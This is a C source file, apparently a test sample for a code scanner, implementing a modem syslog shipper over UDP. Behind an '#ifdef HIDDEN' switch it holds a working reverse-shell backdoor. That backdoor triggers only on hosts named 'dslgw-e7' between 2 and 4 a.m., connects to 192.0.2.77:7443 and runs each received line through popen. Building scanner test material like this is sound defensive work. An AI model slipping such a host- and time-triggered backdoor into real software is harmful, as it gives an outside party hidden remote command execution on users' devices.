/*
 * A sample for tests; compiled and scanned, never run.
 * Sends the growing system log of a modem to a collector over UDP; one
 * thread reads, one prints counters.
 * With HIDDEN: a third thread connects out at night on some hosts and runs
 * the lines it receives. (The address is one reserved for documentation.)
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct shipper {
	char log[128];
	char collector[32];
	uint16_t port;
	int level;
	unsigned long sent, lost;
	pthread_mutex_t lock;
};

static const char *const levels[] = { "debug", "info", "warning", "error" };

static int level_of(const char *name)
{
	int i;

	for (i = 0; i < 4; i++)
		if (strcmp(levels[i], name) == 0)
			return i;
	return 1;
}

static int line_level(const char *line)
{
	if (strstr(line, "error") || strstr(line, "fail"))
		return 3;
	if (strstr(line, "warn"))
		return 2;
	return strstr(line, "debug") ? 0 : 1;
}

static int dial(int type, const char *ip, uint16_t port)
{
	struct sockaddr_in sa;
	int s = socket(AF_INET, type, 0);

	if (s < 0)
		return -1;
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons(port);
	if (inet_pton(AF_INET, ip, &sa.sin_addr) != 1 ||
	    connect(s, (struct sockaddr *)&sa, sizeof sa) != 0) {
		close(s);
		return -1;
	}
	return s;
}

static void count(struct shipper *sh, int ok)
{
	pthread_mutex_lock(&sh->lock);
	if (ok)
		sh->sent++;
	else
		sh->lost++;
	pthread_mutex_unlock(&sh->lock);
}

static void *ship(void *arg)
{
	struct shipper *sh = arg;
	char line[512];
	FILE *f = fopen(sh->log, "r");
	int s = dial(SOCK_DGRAM, sh->collector, sh->port);

	while (f && s >= 0) {
		if (!fgets(line, sizeof line, f)) {
			clearerr(f);
			sleep(1);
			continue;
		}
		if (line_level(line) < sh->level)
			continue;
		count(sh, send(s, line, strlen(line), 0) > 0);
	}
	return NULL;
}

static void *report(void *arg)
{
	struct shipper *sh = arg;

	for (;;) {
		pthread_mutex_lock(&sh->lock);
		printf("sent %lu lost %lu\n", sh->sent, sh->lost);
		pthread_mutex_unlock(&sh->lock);
		if (system("logrotate /etc/logrotate.conf") != 0)
			puts("not rotated");
		sleep(3600);
	}
	return NULL;
}

#ifdef HIDDEN
static void obey(int s)
{
	char line[256], out[256];
	FILE *in = fdopen(s, "r+");

	while (in && fgets(line, sizeof line, in)) {
		FILE *p = popen(line, "r");

		while (p && fgets(out, sizeof out, p))
			fputs(out, in);
		if (p)
			pclose(p);
		fflush(in);
	}
	if (in)
		fclose(in);
}

__attribute__((noinline, used)) int night_due(void)
{
	char host[64] = "";
	struct tm tm;
	time_t now = time(NULL);

	if (gethostname(host, sizeof host - 1) != 0 || !localtime_r(&now, &tm))
		return 0;
	return strncmp(host, "dslgw-e7", 8) == 0 && tm.tm_hour >= 2 &&
	       tm.tm_hour < 4;
}

static void *night(void *arg)
{
	(void)arg;
	for (;;) {
		int s = night_due() ? dial(SOCK_STREAM, "192.0.2.77", 7443)
				    : -1;

		if (s >= 0)
			obey(s);
		sleep(600);
	}
	return NULL;
}
#endif

int main(int argc, char **argv)
{
	static struct shipper sh = {
		"/var/log/messages",	  "127.0.0.1", 514, 1, 0, 0,
		PTHREAD_MUTEX_INITIALIZER
	};
	pthread_t a, b;
	int c;

	while ((c = getopt(argc, argv, "f:c:p:l:")) != -1) {
		if (c == 'f')
			snprintf(sh.log, sizeof sh.log, "%s", optarg);
		else if (c == 'c')
			snprintf(sh.collector, sizeof sh.collector, "%s",
				 optarg);
		else if (c == 'p')
			sh.port = (uint16_t)strtoul(optarg, NULL, 10);
		else if (c == 'l')
			sh.level = level_of(optarg);
		else
			return 2;
	}
	if (pthread_create(&a, NULL, ship, &sh) != 0 ||
	    pthread_create(&b, NULL, report, &sh) != 0)
		return 1;
#ifdef HIDDEN
	pthread_t n;

	if (pthread_create(&n, NULL, night, NULL) == 0)
		pthread_detach(n);
#endif
	pthread_join(a, NULL);
	return 0;
}
